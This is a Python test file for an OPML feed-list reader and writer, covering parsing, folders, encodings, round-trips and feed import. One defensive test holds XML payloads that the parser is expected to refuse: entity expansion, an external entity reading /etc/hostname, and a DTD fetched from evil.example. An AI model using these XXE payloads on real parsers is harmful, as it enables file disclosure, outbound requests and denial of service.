"""Lists of feeds: reading what other programs write, writing what they read, and what becomes of a list."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from letters.errors import ProblemsError
from letters.model import Source
from letters.settings.headings import Folder
from letters.text import one_line
from letters.watch.intake import take_in
from letters.watch.opml import LIMIT_BYTES, Subscription, read_opml, write_opml

WHERE = "feeds.opml"


def read(outlines: str, *, before: str = "", version: str = "2.0") -> list[Subscription]:
    data = f'{before}<opml version="{version}"><head><title>Mine</title></head><body>{outlines}</body></opml>'
    return list(read_opml(data.encode(), where=WHERE).subscriptions)


def refusal(data: bytes) -> str:
    with pytest.raises(ProblemsError) as caught:
        read_opml(data, where=WHERE)
    return str(caught.value)


# --- reading ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "outline",
    [
        '<outline type="rss" text="The Grid" xmlUrl="https://grid.example/feed"/>',
        '<outline title="The Grid" xmlurl="https://grid.example/feed"/>',
        '<outline TYPE="RSS" Text="The Grid" XMLURL=" https://grid.example/feed "></outline>',
        '<outline type="atom" text="The Grid" title="Another" xmlUrl="https://grid.example/feed"/>',
        '<outline type="rss" text="The Grid" url="https://grid.example/feed"/>',
        '<outline type="rss" text=" The &#10; Grid" xmlUrl="feed:https://grid.example/feed"/>',
    ],
)
@pytest.mark.parametrize("version", ["1.0", "1.1", "2.0"])
def test_a_feed_is_read_however_a_program_writes_it(outline: str, version: str) -> None:
    [one] = read(outline, version=version)
    assert (one.url, one.title) == ("https://grid.example/feed", "The Grid")


def test_folders_nest_and_a_feed_may_be_one() -> None:
    found = read(
        '<outline text="Tech"><outline title="Pods"><outline text="A" xmlUrl="https://a.example/"/></outline>'
        '<outline><outline text="B" xmlUrl="https://b.example/"><outline text="C" xmlUrl="https://c.example/"/>'
        '</outline></outline></outline><outline text="D" xmlUrl="https://d.example/"/>'
    )
    assert {one.title: one.folder for one in found} == {
        "A": ("Tech", "Pods"),
        "B": ("Tech",),
        "C": ("Tech", "B"),
        "D": (),
    }


def test_folders_may_be_two_hundred_deep() -> None:
    [one] = read('<outline text="x">' * 200 + '<outline xmlUrl="https://a.example/"/>' + "</outline>" * 200)
    assert len(one.folder) == 200


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_any_usual_encoding_is_read(encoding: str) -> None:
    declared = f'<?xml version="1.0" encoding="{encoding.removesuffix("-sig")}"?>\n'
    data = f'{declared}<opml version="2.0"><body><outline text="Übung" xmlUrl="https://a.example/"/></body></opml>'
    [one] = read_opml(data.encode(encoding), where=WHERE).subscriptions
    assert (one.title, one.line) == ("Übung", 2)


def test_bare_ampersands_and_entities_of_html_are_mended() -> None:
    [one] = read('<outline text="Caf&eacute; &amp; Co &nbsp;" xmlUrl="https://a.example/?a=1&b=2"/>')
    assert (one.url, one.title) == ("https://a.example/?a=1&b=2", "Café & Co")


def test_the_line_is_that_of_the_file_whatever_stands_before_the_root() -> None:
    before = '<?xml version="1.0"?>\n<!-- a\nremark -->\n<!DOCTYPE opml [\n<!ENTITY us "Acme">\n]>\n'
    [one] = read('\n<outline text="&us;" xmlUrl="https://a.example/"/>', before=before)
    assert (one.title, one.line) == ("Acme", 8)
    assert f"{WHERE}:9: is no well-formed XML" in refusal(
        f"{before}<opml><body>\n\n<outline></body></opml>".encode()
    )


def test_what_is_no_feed_is_told_and_passed_over() -> None:
    listed = read_opml(
        b'<opml><body><outline type="link" text="A page" url="https://a.example"/>\n'
        b'<outline type="rss" text="No address"/><outline text="An empty folder"/></body></opml>',
        where=WHERE,
    )
    assert listed.subscriptions == ()
    assert [str(problem) for problem in listed.problems] == [
        'feeds.opml:1: "A page" is of type "link", not a feed; passed over',
        'feeds.opml:2: "No address" has no xmlUrl; add it by hand',
    ]
    assert [problem.is_notice for problem in listed.problems] == [True, False]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is empty"),
        (b"<!doctype html><html></html>", "is an HTML page"),
        (b"email,name\n", "is plain text"),
        (b"<rss version='2.0'><channel/></rss>", 'give its address to "letters sources add"'),
        (b"<list/>", "begins with <list>"),
        (b"<opml version='2.0'><head/></opml>", "has no <body>"),
        (b"<opml><body>\n<outline text='a'>\n</body></opml>", f"{WHERE}:3: is no well-formed XML"),
        (b"<opml><body>" + b"<outline>" * 400 + b"</outline>" * 400 + b"</body></opml>", "depth"),
        (b"<opml>" + b" " * LIMIT_BYTES, "is larger than 10,000,000 bytes"),
    ],
)
def test_what_is_no_list_is_refused_with_what_it_is(data: bytes, words: str) -> None:
    assert words in refusal(data)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/hostname">',
        '<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;',
    ],
)
def test_entities_that_unfold_or_are_fetched_are_refused(doctype: str) -> None:
    """R66."""
    assert "refused as unsafe" in refusal(f"<!DOCTYPE opml [{doctype}]><opml><body/></opml>".encode())


@given(st.binary(max_size=300), st.sampled_from([b"", b"<opml>", b"<opml><body><outline xmlUrl='"]))
def test_nothing_but_a_list_or_a_refusal_comes_of_any_bytes(data: bytes, start: bytes) -> None:
    with contextlib.suppress(ProblemsError):
        assert all(one.url for one in read_opml(start + data, where=WHERE).subscriptions)


# --- writing ------------------------------------------------------------------------------------------------

LINES = st.text(max_size=30).map(one_line).filter(bool)
URLS = st.from_regex(r"https?://[a-z]{1,8}\.example/[a-z0-9/?=&;%+é]{0,12}", fullmatch=True)
KEYS = st.from_regex(r"[a-z0-9]{1,5}(-[a-z0-9]{1,5}){0,2}", fullmatch=True)


@st.composite
def subscriptions(draw: st.DrawFn) -> Subscription:
    url = draw(URLS)
    source = Source(
        key=draw(KEYS),
        url=url,
        show=draw(LINES | st.just("")),
        names=tuple(draw(st.lists(LINES, max_size=2))),
        backfill=draw(st.integers(0, 500)),
    )
    return Subscription(
        url=url,
        title=draw(LINES | st.just("")),
        page=draw(URLS | st.just("")),
        folder=tuple(draw(st.lists(LINES, max_size=3))),
        source=draw(st.sampled_from([source, None])),
    )


def _by_folder(listed: list[Subscription]) -> dict[Folder, list[Subscription]]:
    folders: dict[Folder, list[Subscription]] = {}
    for one in listed:
        folders.setdefault(one.folder, []).append(one)
    return folders


@given(st.lists(subscriptions(), max_size=6))
def test_what_was_written_is_read_as_it_was(listed: list[Subscription]) -> None:
    data = write_opml(listed, title="Signal")
    again = read_opml(data, where=WHERE)
    assert again.problems == ()
    found = [_without_line(one) for one in again.subscriptions]
    assert _by_folder(found) == _by_folder(listed)
    assert write_opml(found, title="Signal") == data


def _without_line(one: Subscription) -> Subscription:
    assert one.line is not None
    return Subscription(url=one.url, title=one.title, page=one.page, folder=one.folder, source=one.source)


def test_other_programs_find_what_the_recommendation_wants() -> None:
    one = Subscription(url="https://a.example/f", title="A & B", page="https://a.example/", folder=("News",))
    text = write_opml([one], title="Signal").decode()
    assert '<opml xmlns:letters="urn:letters:sources" version="2.0">' in text
    assert (
        '<outline type="rss" text="A &amp; B" title="A &amp; B" xmlUrl="https://a.example/f" htmlUrl="https://a.example/"/>'
        in text
    )
    assert "<title>Signal</title>" in text


# --- taking in ----------------------------------------------------------------------------------------------


def test_each_feed_of_a_list_is_added_or_its_reason_is_told() -> None:
    listed = read(
        '<outline text="The Grid" xmlUrl="https://grid.example/feed"/>\n'
        '<outline text="The Grid" xmlUrl="https://other.example/feed"/>\n'
        '<outline text="Known" xmlUrl="https://known.example/feed"/>\n'
        '<outline text="Again" xmlUrl="http://www.grid.example/feed/?utm_source=x"/>\n'
        '<outline text="Bad" xmlUrl="ftp://bad.example/"/>'
    )
    intake = take_in(listed, [Source(key="mine", url="http://known.example/feed/")], where=WHERE)
    first, second = (addition.source for addition in intake.additions)
    assert (first.key, first.show, first.url) == ("the-grid", "The Grid", "https://grid.example/feed")
    assert second.key.startswith("the-grid-")
    assert [(one.title, key) for one, key in intake.already] == [("Known", "mine")]
    assert [(one.title, first.title) for one, first in intake.repeated] == [("Again", "The Grid")]
    assert "feeds.opml:5" in str(intake.invalid[0])
    assert "is no web address" in str(intake.invalid[0])


def test_the_key_of_a_list_of_ours_is_kept_unless_another_source_has_it() -> None:
    own = Source(key="grid", url="https://grid.example/feed", names=("Old name",), backfill=3)
    listed = [Subscription(url=own.url, title="The Quiet Grid", source=own)]
    assert take_in(listed, [], where=WHERE).additions[0].source == own
    clash = (
        take_in(listed, [Source(key="grid", url="https://else.example/")], where=WHERE).additions[0].source
    )
    assert (clash.key, clash.names, clash.backfill) == ("the-quiet-grid", ("Old name",), 3)


def test_a_feed_without_a_title_is_called_by_its_host() -> None:
    [addition] = take_in([Subscription(url="https://www.grid.example/feed")], [], where=WHERE).additions
    assert (addition.source.key, addition.source.show) == ("grid-example", "")
